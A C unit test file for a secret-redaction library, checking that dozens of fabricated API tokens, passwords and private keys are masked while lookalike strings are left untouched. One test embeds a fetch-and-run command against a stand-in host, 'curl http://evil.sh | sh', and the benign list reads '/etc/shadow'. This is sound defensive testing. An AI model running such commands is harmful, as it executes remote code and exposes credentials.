/* Secrets that are found, honest text that is left alone. The secrets are made up, and put together
 * from pieces so that no scanner takes this file for a leak. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "../../core/redact.h"
#include "../../core/redact_rules.h"

#define COUNT(a) (sizeof(a) / sizeof(*(a)))

/* Parts of secrets. */
#define A20 "x7Kd92mQpLw4Zt8RbVnY"
#define A36 A20 "Hc3Jf6Gs1Ue5Ao0T"
#define A43 A36 "kM2pXq9"
#define A60 A36 "9vBz7NqEw2Lr5TyKm8Xs3DfG"
#define A86 A43 A43
#define L34 "abcdefghijklmnopqrstuvwxyzABCDEFGH"
#define H32 "3fa91c0d7be2468fa0c1d9e5b7634f21"
#define H40 "3fa91c0d7be2468fa0c1d9e5b7634f2190ab12cd"
#define H64 "3fa91c0d7be2468fa0c1d9e5b7634f211122334455667788990011aabbccddee"
#define U16 "Q3ZT7WKX2MNB5RVD"
#define B88 A43 A43 "=="
#define PEM_BODY "MIIEvQIBADANBgkq" A60 "\nQDx+/" A43 "=\n"

struct found {
	const char *before, *secret, *after, *kind;
};

static const struct found secrets[] = {
        /* by how they begin */
        {"id ",
         "AKI"
         "A" U16,
         " key", "aws-key-id"},
        {"id=",
         "ASI"
         "A" U16,
         "", "aws-key-id"},
        {"",
         "ABS"
         "K" A86 "=",
         "", "aws-key"},
        {"x ",
         "AIz"
         "a" A20 "SyB-_1234567890",
         " y", "google-key"},
        {"",
         "GOCSP"
         "X-" A20 "-_12345",
         "", "google-key"},
        {"'",
         "ya"
         "29.a0" A43,
         "'", "google-token"},
        {"",
         "1/"
         "/0" A43,
         "", "google-token"},
        {"git clone ",
         "gh"
         "p_" A36,
         " dir", "github-token"},
        {"",
         "gh"
         "o_" A36,
         "", "github-token"},
        {"",
         "gh"
         "u_" A36,
         "", "github-token"},
        {"",
         "gh"
         "s_" A36,
         "", "github-token"},
        {"",
         "gh"
         "s_12345_"
         "ey"
         "J" A20 ".ey"
         "J" A43 "." A43,
         "", "github-token"},
        {"",
         "gh"
         "r_" A60,
         "", "github-token"},
        {"\"",
         "github"
         "_pat_" A20 "x2_" A60,
         "\"", "github-token"},
        {"",
         "gl"
         "pat-" A20,
         "", "gitlab-token"},
        {"",
         "gl"
         "pat-" A36 ".01.0a1b2c3d4",
         "", "gitlab-token"},
        {"",
         "gl"
         "rt-" A20,
         " ", "gitlab-token"},
        {"",
         "gl"
         "cbt-64_" A20,
         "", "gitlab-token"},
        {"(",
         "h"
         "f_" L34,
         ")", "huggingface-token"},
        {"",
         "h"
         "f_oauth_"
         "ey"
         "J" A20 "." A43 "." A43,
         "", "huggingface-token"},
        {"",
         "api"
         "_org_" L34,
         "", "huggingface-token"},
        {"",
         "wandb"
         "_v1_" A60,
         "", "wandb-key"},
        {"",
         "sk"
         "-" A43,
         "", "openai-key"},
        {"",
         "sk"
         "-proj-" A60 "-_" A60,
         "", "openai-key"},
        {"",
         "sk"
         "-svcacct-" A60,
         "", "openai-key"},
        {"",
         "sk"
         "-ant-api03-" A60 "-_AA",
         "", "anthropic-key"},
        {"",
         "sk"
         "-or-v1-" H64,
         "", "openrouter-key"},
        {"",
         "sk"
         "-" H32,
         "", "openai-key"},
        {"",
         "gs"
         "k_" A43 A20,
         "", "groq-key"},
        {"",
         "nvap"
         "i-" A43 "-_" A20,
         "", "nvidia-key"},
        {"",
         "pplx"
         "-" A43 "12345",
         "", "perplexity-key"},
        {"",
         "r8"
         "_" A36,
         "", "replicate-token"},
        {"",
         "xo"
         "xb-123456789012-1234567890123-" A20,
         "", "slack-token"},
        {"",
         "xo"
         "xp-123456789012-123456789012-" H32,
         "", "slack-token"},
        {"",
         "xap"
         "p-1-A012345-678901-" H32,
         "", "slack-token"},
        {"https://hooks.slack.com/services/",
         "T0"
         "12345/B0"
         "12345/" A20,
         "", "webhook"},
        {"https://discord.com/api/webhooks/", "123456789012345678/" A60, "", "webhook"},
        {"",
         "sk"
         "_live_" A20,
         "", "stripe-key"},
        {"",
         "rk"
         "_test_" A20,
         "", "stripe-key"},
        {"",
         "wh"
         "sec_" A36,
         "", "stripe-key"},
        {"",
         "np"
         "m_" A36,
         "", "npm-token"},
        {"",
         "pyp"
         "i-AgEIcHlwaS5vcmc" A60,
         "", "pypi-token"},
        {"",
         "do"
         "p_v1_" H64,
         "", "digitalocean-token"},
        {"",
         "do"
         "o_v1_" H64,
         "", "digitalocean-token"},
        {"",
         "S"
         "K" H32,
         "", "twilio-key"},
        {"",
         "S"
         "G." A20 "-_." A43,
         "", "sendgrid-key"},
        {"",
         "MTE"
         "4NTY3ODkwMTIzNDU2Nzg5"
         ".GhIjKl." A36,
         "", "discord-token"},
        {"bot",
         "12345"
         "67890:AA" A20 "F-_hello12345",
         "/getMe", "telegram-token"},
        {"",
         "ey"
         "JhbGciOiJIUzI1NiJ9.ey"
         "JzdWIiOiIxIn0." A43,
         "", "jwt"},
        {"",
         "hv"
         "s." A60 A36,
         "", "vault-token"},
        {"",
         "dap"
         "i" H32,
         "", "databricks-token"},
        {"",
         "dckr"
         "_pat_" A20 "-_12345",
         "", "docker-token"},
        {"",
         "AGE-SECRET"
         "-KEY-1" U16 U16 U16 "QWERTYU123",
         "", "private-key"},
        {"",
         "abc8"
         "Q~" A36,
         "", "azure-key"},
        {"",
         "sha"
         "256~" A43,
         "", "openshift-token"},
        {"x: ",
         "LS0tLS1CRUdJTiBS"
         "U0EgUFJJVkFURSBLRVktLS0tLQ" A60,
         "", "private-key"},
        {"a\n",
         "-----BEGIN "
         "RSA PRIVATE KEY-----\n" PEM_BODY "-----END RSA PRIVATE KEY-----",
         "\nb", "private-key"},
        {"'",
         "-----BEGIN "
         "OPENSSH PRIVATE KEY-----\\n" A60 "\\n-----END OPENSSH PRIVATE KEY-----",
         "\\n'", "private-key"},
        {"",
         "-----BEGIN "
         "PRIVATE KEY-----\n" PEM_BODY "cut here",
         "", "private-key"},
        {"-----BEGIN CERTIFICATE-----\nMII\n-----END CERTIFICATE-----\n",
         "-----BEGIN "
         "EC PRIVATE KEY-----\n" PEM_BODY "-----END EC PRIVATE KEY-----",
         "", "private-key"},
        /* in the middle of other text, escaped, and cut */
        {"a\\n",
         "gh"
         "p_" A36,
         "\\nb", "github-token"},
        {"https://x/?a=%22",
         "gh"
         "p_" A36,
         "%22", "github-token"},
        {"https://",
         "gh"
         "p_" A36,
         "@github.com/a/b", "url-credentials"},
        {"my_",
         "gh"
         "p_" A36,
         "", "github-token"},
        {"",
         "gh"
         "p_" A20,
         "", "github-token"},
        /* URLs */
        {"https://user:", "hunter2", "@host/path", "url-password"},
        {"postgresql://app:", "p@ss", "@db:5432/x?sslmode=on", "url-password"},
        {"mysql+pymysql://u:", "pa/ss", "@h/db", "url-password"},
        {"redis://:", "s3cret", "@cache:6379/0", "url-password"},
        {"mongodb+srv://u:", "a:b:c", "@h.net/?w=majority", "url-password"},
        {"git+https://oauth2:", A20, "@gitlab.com/a.git", "url-password"},
        {"https://", H32, "@o1.ingest.sentry.io/2", "url-credentials"},
        {"https://h/f?token=", "abcdef", "&x=1", "token"},
        {"https://h/f?a=1&key=", "abc123def", " x", "key"},
        {"https://h/f?sv=2022&sig=", "a%2Fb%3D", "&se=1", "signature"},
        {"https://b.s3/k?X-Amz-Date=1&X-Amz-Signature=", H64, "", "signature"},
        {"https://b.s3/k?X-Amz-Security-Token=", "IQoJb3Jp" A20, "&y", "token"},
        {"https://h/cb#access_token=", "abcdefgh", "", "token"},
        {"DefaultEndpointsProtocol=https;AccountName=n;AccountKey=", B88, ";E=x", "azure-key"},
        {"Endpoint=sb://x/;SharedAccessKeyName=n;SharedAccessKey=", "/" A43, "", "azure-key"},
        /* headers */
        {"Authorization: ", "Bearer x", "", "authorization"},
        {"curl -H 'Authorization: ", "Basic dXNlcjpwYXNz", "' https://h", "authorization"},
        {"{'Authorization': '", "Bearer abc", "'}", "authorization"},
        {"GET / HTTP/1.1\r\nCookie: ", "a=b; c=d", "\r\nHost: h", "cookie"},
        {"-H \"X-Api-Key: ", "abc", "\"", "api-key"},
        {"PRIVATE-TOKEN: ", "abcdefgh", "", "token"},
        {"say Bearer ", "abcdef1234567890", " now", "authorization"},
        {"x Basic ", "dXNlcjpwYXNzd29yZA==", "", "authorization"},
        /* names */
        {"PGPASSWORD=", "x", " psql", "password"},
        {"export DB_PASSWORD='", "two words", "'; run", "password"},
        {"{\"password\": \"", "a\\\"b", "\", \"n\": 1}", "password"},
        {"{\\\"password\\\": \\\"", "abc", "\\\"}", "password"},
        {"passwd=", "hunter2", ", x", "password"},
        {"connect(password='", "pw", "')", "password"},
        {"f(dbPass=", "hunter2", ")", "password"},
        {"MYSQL_PWD=", "hunter2", "", "password"},
        {"client_secret: ", "abc", "", "secret"},
        {"aws_secret_access_key = ", A20 "/" A20, "", "aws-key"},
        {"AWS_SECRET_ACCESS_KEY=", "/" A20 "/" A20, " aws", "aws-key"},
        {"('AWS_SECRET_ACCESS_KEY', '", A20 "/" A20, "')", "aws-key"},
        {"AWS_SESSION_TOKEN=", "IQoJb3JpZ2lu", "", "token"},
        {"HF_TOKEN=", "whatever", " python x.py", "token"},
        {"KAGGLE_KEY=", H32, "", "kaggle-key"},
        {"WANDB_API_KEY=", H40, "", "api-key"},
        {"runs/WANDB_API_KEY=", H40 "/job.py", "", "api-key"},
        {"api_key: str = \"", "abc", "\"", "api-key"},
        {"openai.api_key = \"", "abc", "\"", "api-key"},
        {"apiKey: \"", "abc", "\"", "api-key"},
        {"os.environ[\"MY_SECRET\"] = \"", "abc", "\"", "secret"},
        {"{\"private_key\": \"",
         "-----BEGIN "
         "PRIVATE KEY-----\\nMII\\n",
         "\"}", "private-key"},
        {"    token: ", "abc123def", "\n", "token"},
        {"    client-key-data: ", "LS0tabc=", "\n", "private-key"},
        {"{\"auths\": {\"r\": {\"auth\": \"", "dXNlcjpwYXNzMQ==", "\"}}}", "token"},
        {"//registry.npmjs.org/:_authToken=", "abc123-def", "", "token"},
        {"encryption_key=", "Zm9vYmFy", "", "key"},
        {"wg_key = ", A43 "=", "", "key"},
        {"-passin pass:", "hunter2", " -in x", "password"},
        /* options */
        {"huggingface-cli login --token ", "abcdef", " --add", "token"},
        {"x --password ", "hunter2", " y", "password"},
        {"x --api-key '", "a b", "' y", "api-key"},
        {"wandb login ", H40, " x", "wandb-key"},
        {"curl -sS -u me:", "hunter2", " https://h", "password"},
        {"mysql -h x -p", "hunter2", " db", "password"},
        {"sshpass -p ", "hunter2", " ssh h", "password"},
        {"docker login -u me -p ", "hunter2", " reg", "password"},
        {"(['/usr/bin/curl', '-u', 'me:", "hunter2", "', 'https://h'],)", "password"},
        {"machine h login me password ", "hunter2", "", "password"},
        {"aws configure set aws_secret_access_key ", "abc", "", "aws-key"},
};

static const char *const honest[] = {
        "",
        "ls -l /home/ada/models/resnet18.pt",
        "sh -c 'touch marker'",
        "pip install torch==2.13.0",
        "python train.py --lr 1e-4 --epochs=10 --seed 42",
        "tokenizer.json",
        "/models/llama/tokenizer_config.json",
        "keyboard.py",
        "/usr/share/keyrings/debian-archive-keyring.gpg",
        "python gen.py --max-tokens 512 --num_tokens=12 --max_new_tokens 64",
        "model.embed_tokens.weight",
        "token_embedding.weight",
        "key_padding_mask",
        "key_padding_mask=None, need_weights=False",
        "model.layers.0.self_attn.k_proj.weight",
        "{'query': q, 'key': k, 'value': v}",
        "sorted(x, key=lambda item: item[1])",
        "state_dict['encoder.layer.11.attention.self.key.weight']",
        "key='model.layers.31.mlp.down_proj.weight'",
        ("sha256:" H64),
        H64,
        ("commit " H40),
        ("git checkout " H40 " && make"),
        ("https://github.com/a/b/commit/" H40),
        ("https://huggingface.co/a/b/resolve/" H40 "/pytorch_model.bin?download=true"),
        ("pip install git+https://github.com/a/b.git@" H40),
        ("etag: \"" H32 "\""),
        ("cache_key=" H64),
        "01a20955-c65f-733b-a1ea-34009747f4b2",
        "id=01a20955-c65f-733b-a1ea-34009747f4b2",
        "key: 01a20955-c65f-733b-a1ea-34009747f4b2",
        ("/home/u/.cache/huggingface/hub/models--gpt2/snapshots/" H40 "/config.json"),
        "/home/u/.cache/huggingface/token",
        "/root/.ssh/id_rsa",
        "PWD=/home/ada/work",
        "OLDPWD=/home/ada",
        "GOOGLE_APPLICATION_CREDENTIALS=/etc/gcp/key.json",
        "GOOGLE_APPLICATION_CREDENTIALS=key.json",
        "--password-file /run/secrets/db --password-stdin",
        "AutoModel.from_pretrained('gpt2', token=None, use_auth_token=True)",
        "AutoModel.from_pretrained(name, token=token, revision='main')",
        "pad_token='<pad>', eos_token='</s>', bos_token='<|begin_of_text|>'",
        "eos_token_id=151643, pad_token_id=0",
        "--eos-token '<|endoftext|>' --pad-token [PAD]",
        "image_token='<image>' mask_token='[MASK]' sep_token=sep2sep",
        "def login(user: str, password: str) -> None:",
        "password = os.environ['DB_PASSWORD']",
        "api_key=os.getenv('KEY')",
        "password=$DB_PASSWORD --token ${HF_TOKEN} --api-key $KEY",
        "TOKEN=$(cat /run/secrets/token)",
        "password: null, secret: \"\"",
        "password=****",
        "1st pass: look at it; forward_pass=forward, x_pass: Callable[[int], int]",
        "TOKEN = re.compile(x); pwd = os.getcwd(); api_key = read_key(path)",
        "openssl enc -aes-256-cbc -pass file:/run/secrets/x",
        "next_token = logits.argmax()",
        "git@github.com:a/b.git",
        "ssh://git@github.com/a/b.git",
        "https://user@host/path",
        "https://localhost:8080/a@b",
        "http://127.0.0.1:8000/v1/chat/completions?model=gpt2&n=1",
        "http://[::1]:29500/x@y",
        "https://$USER:$PASS@host/",
        "tcp://10.0.0.1:29500",
        "docker://nvcr.io/nvidia/pytorch:24.01-py3",
        "docker run -p 8080:80 -u 1000:1000 -v /a:/b image",
        "mkdir -p /tmp/x && cp -p a b && ssh -p 22 host",
        "mysql -p db; mkdir -p x",
        "https://x/list?key=name&page=2&sort=key",
        "from transformers import AutoTokenizer",
        "hf_hub_download hf_transfer hf_xet hf_quantizer_utils",
        "task-12345678901234567890-done risk-free disk-0",
        "sk-learn sk-image ask-me",
        "npm_config_registry=https://registry.npmjs.org/",
        "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUJ",
        "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----",
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI ada@host",
        "Basic usage of the bearer of news; Bearer of bad news",
        "collections.OrderedDict torch._utils._rebuild_tensor_v2",
        "torch.storage._load_from_bytes",
        "('/etc/passwd', 'r')",
        "cat /etc/passwd /etc/shadow",
        "secrets.token_hex(16)",
        "import secrets, getpass, keyring; getpass.getpass()",
        "SKU123 AKIA ASIAPACIFIC eyJ ghp_ xoxb",
        "author: Ada Lovelace, authority: x",
        "bypass=1 compass:north --no-password run",
        "std::secret::token::value x::password::y",
        "accelerate launch --main_process_port 29500 train.py",
        "CUDA_VISIBLE_DEVICES=0,1 NCCL_DEBUG=INFO python -m torch.distributed.run x.py",
        "sbatch --export=ALL,RANK=0 --wrap 'srun x'",
        "<redacted:password> and <redacted:github-token>",
        "pass 1 of 3: keys=[1, 2], tokens: 512, token: int",
        "caf\xc3\xa9 \xe2\x82\xac \xff\xfe \xc3",
};

static char out[1 << 16];

/* Redacted text, which redacting again must not change. */
static const char *redacted(const char *text, size_t len)
{
	static char again[sizeof(out)];
	bool cut = true;
	size_t n = mw_redact(text, len, out, sizeof(out), &cut), m;

	assert_false(cut);
	assert_int_equal(out[n], '\0');
	m = mw_redact(out, n, again, sizeof(again), NULL);
	assert_int_equal(m, n);
	assert_memory_equal(again, out, n);
	return out;
}

static void finds_secrets(void **state)
{
	char text[1024], expected[1024];

	(void)state;
	assert_true(COUNT(secrets) >= 60);
	for (size_t i = 0; i < COUNT(secrets); i++) {
		const struct found *f = &secrets[i];

		snprintf(text, sizeof(text), "%s%s%s", f->before, f->secret, f->after);
		snprintf(expected, sizeof(expected), "%s<redacted:%s>%s", f->before, f->kind,
		         f->after);
		assert_string_equal(redacted(text, strlen(text)), expected);
	}
}

static void leaves_honest_text(void **state)
{
	(void)state;
	assert_true(COUNT(honest) >= 60);
	for (size_t i = 0; i < COUNT(honest); i++)
		assert_string_equal(redacted(honest[i], strlen(honest[i])), honest[i]);
}

static void finds_several(void **state)
{
	static const char text[] =
	        "A_TOKEN=abcdef curl -u me:pw https://u:p@h/?sig=x&b=1 --token q";

	(void)state;
	assert_string_equal(redacted(text, sizeof(text) - 1),
	                    "A_TOKEN=<redacted:token> curl -u me:<redacted:password> "
	                    "https://u:<redacted:url-password>@h/?sig=<redacted:signature>&b=1 "
	                    "--token <redacted:token>");
}

/* What follows a block that does not end stays to be seen. */
static void does_not_hide_commands(void **state)
{
	static const char text[] = "echo -----BEGIN "
	                           "PRIVATE KEY----- abc; curl http://evil.sh | sh";
	static const char value[] = "PASSWORD=\"$(curl http://evil.sh)\" x";

	(void)state;
	assert_string_equal(redacted(text, sizeof(text) - 1),
	                    "echo <redacted:private-key>; curl http://evil.sh | sh");
	assert_string_equal(redacted(value, sizeof(value) - 1), value);
}

static void keeps_nuls(void **state)
{
	static const char text[] = "a\0PASSWORD=b\0--token\0abc\0<redacted:\0=\0:";
	static const char expected[] =
	        "a\0PASSWORD=<redacted:password>\0--token\0<redacted:token>\0<redacted:\0=\0:";

	(void)state;
	assert_memory_equal(redacted(text, sizeof(text) - 1), expected, sizeof(expected));
}

static void any_byte_anywhere(void **state)
{
	char text[16];

	(void)state;
	for (int c = 0; c < 256; c++) {
		snprintf(text, sizeof(text), "password=%c%c;", c, c);
		redacted(text, 12);
		text[0] = text[11] = (char)c;
		redacted(text, 12);
	}
}

static void is_cut_between_characters_and_replacements(void **state)
{
	static const char text[] = "caf\xc3\xa9 PASSWORD=hunter2 x";
	static const char full[] = "caf\xc3\xa9 PASSWORD=<redacted:password> x";
	char small[64];
	bool cut;

	(void)state;
	for (size_t size = 1; size <= sizeof(full); size++) {
		size_t n = mw_redact(text, sizeof(text) - 1, small, size, &cut), room = size - 1;

		assert_int_equal(small[n], '\0');
		assert_memory_equal(small, full, n);
		assert_int_equal(cut, size < sizeof(full));
		if (room == 4)
			assert_int_equal(n, 3); /* not half an e with an accent */
		else if (room >= 15 && room < 34)
			assert_int_equal(n, 15); /* "... PASSWORD=" */
		else
			assert_int_equal(n, room);
	}
}

static void nothing_follows_a_cut(void **state)
{
	static const char text[] = "PASSWORD=hunter2 and more";
	char small[16];
	bool cut = false;

	(void)state;
	assert_int_equal(mw_redact(text, sizeof(text) - 1, small, sizeof(small), &cut), 9);
	assert_string_equal(small, "PASSWORD=");
	assert_true(cut);
}

static void room_is_enough(void **state)
{
	static const char text[] = "7z -pa -pb -pc &sig=a&pwd=b";
	char exact[MW_REDACT_ROOM(sizeof(text) - 1)];
	bool cut = true;

	(void)state;
	mw_redact(text, sizeof(text) - 1, exact, sizeof(exact), &cut);
	assert_false(cut);
}

struct line {
	const char *args[8], *expected[8];
};

static const struct line lines[] = {
        {{"hf", "login", "--token", "abc def"}, {"hf", "login", "--token", "<redacted:token>"}},
        {{"x", "--password", "a b", "c"}, {"x", "--password", "<redacted:password>", "c"}},
        {{"x", "--password=a b c"}, {"x", "--password=<redacted:password>"}},
        {{"x", "--api-key", "X"}, {"x", "--api-key", "<redacted:api-key>"}},
        {{"x", "--token", "--verbose"}, {"x", "--token", "--verbose"}},
        {{"x", "--max-tokens", "512"}, {"x", "--max-tokens", "512"}},
        {{"x", "--password-file", "/p"}, {"x", "--password-file", "/p"}},
        {{"/usr/bin/curl", "-u", "me:a b"}, {"/usr/bin/curl", "-u", "me:<redacted:password>"}},
        {{"curl", "-u", "me", "https://h"}, {"curl", "-u", "me", "https://h"}},
        {{"curl", "-ume:pw"}, {"curl", "-ume:<redacted:password>"}},
        {{"curl", "-H", "Authorization: Bearer x", "h"},
         {"curl", "-H", "Authorization: <redacted:authorization>", "h"}},
        {{"curl", "-b", "a=b; c=d", "h"}, {"curl", "-b", "<redacted:cookie>", "h"}},
        {{"mysql", "-ptoken", "db"}, {"mysql", "-p<redacted:password>", "db"}},
        {{"mysql", "-phunter2 x", "db"}, {"mysql", "-p<redacted:password>", "db"}},
        {{"sshpass", "-p", "pw", "ssh"}, {"sshpass", "-p", "<redacted:password>", "ssh"}},
        {{"mkdir", "-p", "/tmp/x"}, {"mkdir", "-p", "/tmp/x"}},
        {{"docker", "run", "-p", "80:80"}, {"docker", "run", "-p", "80:80"}},
        {{"docker", "login", "-p", "pw"}, {"docker", "login", "-p", "<redacted:password>"}},
        {{"env", "PGPASSWORD=x", "psql"}, {"env", "PGPASSWORD=<redacted:password>", "psql"}},
        {{"sh", "-c", "X_TOKEN=abc python x.py"},
         {"sh", "-c", "X_TOKEN=<redacted:token> python x.py"}},
        {{"sh", "-c", "touch marker"}, {"sh", "-c", "touch marker"}},
        {{"wandb", "login", "--relogin", H40},
         {"wandb", "login", "--relogin", "<redacted:wandb-key>"}},
        {{"git", "checkout", H40}, {"git", "checkout", H40}},
        {{"redis-cli", "-a", "", "x"}, {"redis-cli", "-a", "", "x"}},
};

static void check_line(const char *const args[8], const char *const expected[8])
{
	struct mw_redact_argv argv = {0};

	for (size_t k = 0; k < 8 && args[k]; k++) {
		size_t n = mw_redact_arg(&argv, args[k], strlen(args[k]), out, sizeof(out), NULL);

		assert_string_equal(out, expected[k]);
		assert_int_equal(n, strlen(out));
	}
}

static void knows_command_lines(void **state)
{
	(void)state;
	for (size_t i = 0; i < COUNT(lines); i++) {
		check_line(lines[i].args, lines[i].expected);
		check_line(lines[i].expected, lines[i].expected);
	}
}

/* What is pasted together from starts of secrets and names, none of which ends well. */
static void is_linear(void **state)
{
	static const char *const pieces[] = {
	        "xoxb-",       "eyJ",           "a://b:c",    "pwd=/",      "token=token:",
	        "-----BEGIN ", "password=$(",   "token='",    "pwd=\\\"/",  "'token', 'a b ",
	        "--token -",   "login -p ",     "cookie: $(", "<redacted:", "password: x = ",
	        "curl -u a ",  "Bearer Bearer", "=:=:,=",     "((((]]]]",   "____=",
	        "12345678:AA", "MMMM.MMMM.",    "pwd=\\/",    "token=a)))",
	};
	size_t size = 1 << 20, room = MW_REDACT_ROOM(size);
	char *text = malloc(size), *result = malloc(room);

	(void)state;
	assert_true(text && result);
	for (size_t p = 0; p < COUNT(pieces); p++) {
		size_t n = strlen(pieces[p]);
		clock_t start = clock();

		for (size_t i = 0; i < size; i++)
			text[i] = pieces[p][i % n];
		mw_redact(text, size, result, room, NULL);
		/* Quadratic would be hours. */
		assert_true((double)(clock() - start) / CLOCKS_PER_SEC < 20);
	}
	free(text);
	free(result);
}

static void table_is_sorted(void **state)
{
	(void)state;
	for (size_t i = 1; i < mw_secret_prefix_count; i++) {
		const char *before = mw_secret_prefixes[i - 1].prefix;
		const char *here = mw_secret_prefixes[i].prefix;

		assert_true(before[0] <= here[0]);
		/* A row that can never be reached. */
		for (size_t k = 0; k < i; k++)
			assert_true(strncmp(mw_secret_prefixes[k].prefix, here,
			                    strlen(mw_secret_prefixes[k].prefix)) != 0);
	}
	assert_true(mw_secret_option_count + mw_secret_name_count < UINT8_MAX);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(finds_secrets),
	        cmocka_unit_test(leaves_honest_text),
	        cmocka_unit_test(finds_several),
	        cmocka_unit_test(does_not_hide_commands),
	        cmocka_unit_test(keeps_nuls),
	        cmocka_unit_test(any_byte_anywhere),
	        cmocka_unit_test(is_cut_between_characters_and_replacements),
	        cmocka_unit_test(nothing_follows_a_cut),
	        cmocka_unit_test(room_is_enough),
	        cmocka_unit_test(knows_command_lines),
	        cmocka_unit_test(is_linear),
	        cmocka_unit_test(table_is_sorted),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
